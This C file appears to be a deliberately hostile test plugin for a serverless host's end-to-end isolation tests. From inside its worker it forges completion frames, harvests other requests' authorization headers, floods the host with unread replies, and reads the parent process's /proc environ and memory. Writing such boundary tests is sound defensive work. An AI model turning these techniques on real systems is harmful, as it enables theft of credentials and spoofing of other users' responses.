/* evil_worker: an HTTP function that attacks the serving process from inside its worker
 * (--isolation process) by writing raw frames on the worker's socket, for
 * tests/e2e/test_boundary.py. GET /evil?do=...:
 *   forge&from=A&to=B   a W_DONE "200 FORGED-BY-EVIL" for every sequence number A..B
 *   steal&from=A&to=B   an OP_HEADER call for "authorization" under every number A..B; answers
 *                       with what came back
 *   flood&n=N           N OP_SHARED_GET calls of the 1 MiB key "big" whose replies it never
 *                       reads, then sleeps 20 s
 *   proc                reads the serving process's /proc cmdline, environ and mem
 *   slow                (the victim) sleeps 3 s, then answers "real answer"
 * The frames are built here the way host/proto/wire.c builds them: a plugin links nothing of
 * the host, and a hostile one would not ask. */
#include <cloud.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

enum { W_REPLY = 2, W_CALL = 3, W_DONE = 4, OP_SHARED_GET = 5, OP_HEADER = 8 };

struct frame {
  char b[4096];
  size_t n;
};

static void put(struct frame *f, const void *p, size_t n) {
  if (f->n + n <= sizeof f->b) {
    memcpy(f->b + f->n, p, n);
    f->n += n;
  }
}
static void begin(struct frame *f, uint8_t type) {
  f->n = 4;
  put(f, &type, 1);
}
static void u64(struct frame *f, uint64_t v) {
  put(f, &v, 8);
}
static void str(struct frame *f, const char *s) {
  uint32_t n = s ? (uint32_t)strlen(s) : 0xffffffffu;
  put(f, &n, 4);
  if (s)
    put(f, s, strlen(s));
  put(f, "", 1);
}
static int send_frame(int fd, struct frame *f) {
  uint32_t n = (uint32_t)(f->n - 4);
  memcpy(f->b, &n, 4);
  return write(fd, f->b, f->n) == (ssize_t)f->n ? 0 : -1;
}

/* The worker's end of its socketpair: the first socket descriptor. */
static int worker_fd(void) {
  for (int fd = 3; fd < 256; fd++) {
    struct stat st;
    int type = 0;
    socklen_t len = sizeof type;
    if (!fstat(fd, &st) && S_ISSOCK(st.st_mode) &&
        !getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) && type == SOCK_STREAM)
      return fd;
  }
  return -1;
}

static long query_num(FunctionContext *ctx, const char *name, long dflt) {
  const char *v = json_string_value(json_object_get(ctx->query, name));
  return v ? strtol(v, NULL, 10) : dflt;
}

/* Reads one frame's payload into buf (at most cap): its length, or -1. */
static long read_frame(int fd, char *buf, size_t cap) {
  uint32_t n;
  if (read(fd, &n, 4) != 4 || n > cap)
    return -1;
  size_t got = 0;
  while (got < n) {
    ssize_t r = read(fd, buf + got, n - got);
    if (r <= 0)
      return -1;
    got += (size_t)r;
  }
  return n;
}

static int proc_probe(FunctionContext *ctx) {
  char path[64], buf[4096];
  json_t *o = json_object();
  pid_t parent = getppid();
  const char *names[] = {"cmdline", "environ", "mem"};
  for (int i = 0; i < 3; i++) {
    snprintf(path, sizeof path, "/proc/%d/%s", (int)parent, names[i]);
    int fd = open(path, O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
    if (fd >= 0)
      close(fd);
    for (ssize_t k = 0; k < n; k++)
      if (!buf[k])
        buf[k] = ' ';
    json_object_set_new(o, names[i], n > 0 ? json_stringn(buf, (size_t)n) : json_null());
  }
  return cloud_response_json(ctx, 200, o);
}

CLOUD_FUNCTION(ctx) {
  const char *what = json_string_value(json_object_get(ctx->query, "do"));
  int fd = worker_fd();
  struct frame f;
  if (!what)
    return cloud_response_text(ctx, 400, "do=?");
  if (!strcmp(what, "slow")) {
    sleep(3);
    return cloud_response_text(ctx, 200, "real answer");
  }
  if (!strcmp(what, "proc"))
    return proc_probe(ctx);
  if (fd < 0)
    return cloud_response_text(ctx, 500, "no worker socket (in-process?)");
  long from = query_num(ctx, "from", 1), to = query_num(ctx, "to", 64);
  if (!strcmp(what, "forge")) {
    int sent = 0;
    for (long seq = from; seq <= to; seq++) {
      begin(&f, W_DONE);
      u64(&f, (uint64_t)seq); /* seq */
      u64(&f, 0);             /* rc */
      u64(&f, 0);             /* deferred */
      u64(&f, 1);             /* responded */
      u64(&f, 200);           /* status */
      str(&f, "text/plain");
      str(&f, "FORGED-BY-EVIL");
      u64(&f, 0); /* token cleared */
      u64(&f, 0); /* ns */
      str(&f, NULL);
      sent += send_frame(fd, &f) == 0;
    }
    char out[64];
    snprintf(out, sizeof out, "forged %d", sent);
    return cloud_response_text(ctx, 200, out);
  }
  if (!strcmp(what, "steal")) {
    json_t *got = json_array();
    static char buf[1 << 16];
    for (long seq = from; seq <= to; seq++) {
      begin(&f, W_CALL);
      u64(&f, OP_HEADER);
      u64(&f, 1); /* want a reply */
      u64(&f, (uint64_t)seq);
      str(&f, "authorization");
      if (send_frame(fd, &f) < 0)
        break;
      /* The reply (or whatever comes first: an event for this worker is lost, as a hostile
       * plugin would not care). */
      long n = read_frame(fd, buf, sizeof buf - 1);
      if (n < 0)
        break;
      if (buf[0] == W_REPLY && n > 1 + 8 + 4) {
        uint32_t len;
        memcpy(&len, buf + 9, 4);
        if (len != 0xffffffffu && len && 13 + (long)len <= n)
          json_array_append_new(got, json_stringn(buf + 13, len));
      }
    }
    return cloud_response_json(ctx, 200, got);
  }
  if (!strcmp(what, "flood")) {
    json_t *big = json_string("");
    char *v = malloc(1 << 20);
    if (v) {
      memset(v, 'x', (1 << 20) - 1);
      v[(1 << 20) - 1] = 0;
      json_decref(big);
      big = json_string(v);
      free(v);
    }
    cloud_shared_set("big", big);
    json_decref(big);
    long n = query_num(ctx, "n", 300);
    for (long i = 0; i < n; i++) {
      begin(&f, W_CALL);
      u64(&f, OP_SHARED_GET);
      u64(&f, 1);
      u64(&f, 0);
      str(&f, "big");
      if (send_frame(fd, &f) < 0)
        break;
    }
    sleep(20);
    return cloud_response_text(ctx, 200, "flooded");
  }
  return cloud_response_text(ctx, 400, "unknown");
}
